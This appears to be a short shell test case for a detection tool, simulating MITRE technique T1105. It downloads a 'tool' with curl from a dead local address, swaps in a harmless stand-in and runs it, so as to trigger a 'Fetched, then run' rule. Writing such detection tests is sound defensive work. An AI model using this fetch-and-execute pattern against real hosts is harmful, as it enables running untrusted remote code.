#!/bin/sh
# rule: Fetched, then run
# technique: T1105
# case: a download from nobody, and a program beside it that is of no package
# needs: curl

cd "${ATTACK_DIRECTORY:?shrike selftest runs it}" || exit
. "${0%/*}/../undo.inc"
. "${0%/*}/../harmless.inc"
outside
curl -s -o tool http://127.0.0.1:1/tool
harmless tool && ./tool
